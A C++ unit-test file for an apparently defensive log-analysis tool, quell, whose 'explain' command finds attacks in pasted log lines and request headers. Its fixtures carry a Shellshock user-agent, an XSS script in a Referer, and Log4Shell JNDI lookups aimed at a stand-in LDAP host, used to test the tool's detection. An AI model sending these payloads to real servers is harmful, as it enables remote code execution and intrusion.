#include "pasted.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "program_fixture.h"

namespace quell::cli {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;

constexpr const char* kShellshock =
    R"(203.0.113.9 - - [22/Nov/2026:03:14:15 +0000] "GET /?q=shoes HTTP/1.1" 200 612 )"
    R"("http://shop.example/?next=%3Cscript%3Ealert(1)%3C/script%3E" "() { :; }; /bin/id")";

std::vector<std::string> names_of(const attack::Explanation& explanation) {
  std::vector<std::string> out;
  for (const attack::ExplainedPart& part : explanation.parts) {
    out.push_back(std::string(attack::name_of(part.where)) + ":" + part.parameter);
  }
  return out;
}

TEST(Pasted, ALogLineHasItsHeaders) {
  const Pasted pasted = understand(kShellshock, logs::known_formats());
  EXPECT_EQ(pasted.what, "the request of a log line");
  EXPECT_EQ(pasted.bytes, "/?q=shoes");
  EXPECT_EQ(pasted.client, "203.0.113.9");
  EXPECT_EQ(pasted.user_agent, "() { :; }; /bin/id");
  EXPECT_THAT(names_of(explain(pasted)),
              ElementsAre("path:", "query:q", "header:Referer", "header:User-Agent"));
  EXPECT_EQ(explain(pasted).verdict.best().parameter, "User-Agent");
}

TEST(Pasted, WhatALineHasNotIsNotJudged) {
  const Pasted pasted = understand(
      R"(203.0.113.9 - - [22/Nov/2026:03:14:15 +0000] "GET /?q=shoes HTTP/1.1" 200 612 "-" "-")",
      logs::known_formats());
  EXPECT_THAT(names_of(explain(pasted)), ElementsAre("path:", "query:q"));
}

TEST(Pasted, ARequestMayHaveHeaderLines) {
  const Pasted pasted = understand(
      "GET /x HTTP/1.1\r\nhost: shop.example\r\nUSER-AGENT: curl/8\r\nno header\r\n: none\r\n"
      "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\nReferer: in the body",
      logs::known_formats());
  EXPECT_EQ(pasted.bytes, "/x");
  EXPECT_EQ(pasted.user_agent, "curl/8");
  EXPECT_EQ(pasted.referer, "");
  ASSERT_EQ(pasted.further.size(), 2U);
  EXPECT_EQ(pasted.further[1].name, "X-Api-Version");
  EXPECT_EQ(explain(pasted).verdict.best().parameter, "X-Api-Version");
}

TEST(Pasted, HeaderLinesAreBounded) {
  std::string text = "GET /x HTTP/1.1\n";
  for (int i = 0; i < 1000; ++i) text += "A: b\n";
  EXPECT_EQ(understand(text, logs::known_formats()).further.size(), kMostPastedHeaders);
}

TEST(Pasted, OtherFormsAreAsBefore) {
  const auto known = logs::known_formats();
  EXPECT_EQ(understand("https://shop.example/a?b=c", known).bytes, "/a?b=c");
  EXPECT_EQ(understand("GET https://shop.example/a?b=c HTTP/1.1", known).bytes, "/a?b=c");
  EXPECT_EQ(understand("/a?b=c", known).what, "a request target");
  EXPECT_EQ(understand("shoes", known).where, attack::Where::kQuery);
}

class ExplainTest : public ProgramTest {};

TEST_F(ExplainTest, ShowsTheHeadersOfALogLine) {
  ASSERT_EQ(run({"explain", kShellshock}), 0) << console.errors;
  EXPECT_THAT(console.output, HasSubstr("header \"Referer\""));
  EXPECT_THAT(console.output, HasSubstr("header \"User-Agent\""));
  EXPECT_THAT(console.output, HasSubstr("() { :; }; /bin/id"));
  EXPECT_THAT(console.output, Not(HasSubstr("no attack")));
  ASSERT_EQ(run({"explain", "--json", kShellshock}), 0);
  EXPECT_EQ(printed().at("parts").as_array().size(), 4U);
  EXPECT_EQ(printed().at("read_as"), "the request of a log line");
  EXPECT_EQ(printed().at("attack"), true);
}

TEST_F(ExplainTest, SaysWhatAScanWouldNotLookAt) {
  const std::string request = "GET /x HTTP/1.1\nX-Api: ${jndi:ldap://192.0.2.1/a}\x1b[31m";
  ASSERT_EQ(run({"explain", request}), 0) << console.errors;
  EXPECT_THAT(console.output,
              HasSubstr("quell scan judges target, referer and user agent, not X-Api\n"));
  EXPECT_THAT(console.output, Not(HasSubstr("\x1b")));
  ASSERT_EQ(run({"explain", kShellshock}), 0);
  EXPECT_THAT(console.output, Not(HasSubstr("quell scan judges")));
}

TEST_F(ExplainTest, RulesSeeTheWholeLine) {
  const os::Path rules =
      write("rules.yaml",
            "allow: [{name: our probe, parameter: User-Agent}, {name: r, parameter: Referer}]\n");
  ASSERT_EQ(run({"explain", "--rules", rules.string(), kShellshock}), 0) << console.errors;
  EXPECT_THAT(console.output, HasSubstr("allowed by this site's rule \"our probe\""));
  EXPECT_THAT(console.output, HasSubstr("no attack"));
}

TEST_F(ExplainTest, ALineInTheSitesOwnFormat) {
  write("quell.yaml",
        "log_format: '$time_iso8601|$remote_addr|$request|$status|$http_user_agent'\n");
  ASSERT_EQ(run({"explain",
                 "2026-11-22T03:14:15+00:00|203.0.113.9|GET / HTTP/1.1|200|() { :; }; /bin/id"}),
            0)
      << console.errors;
  EXPECT_THAT(console.output, HasSubstr("header \"User-Agent\""));
}

}  // namespace
}  // namespace quell::cli
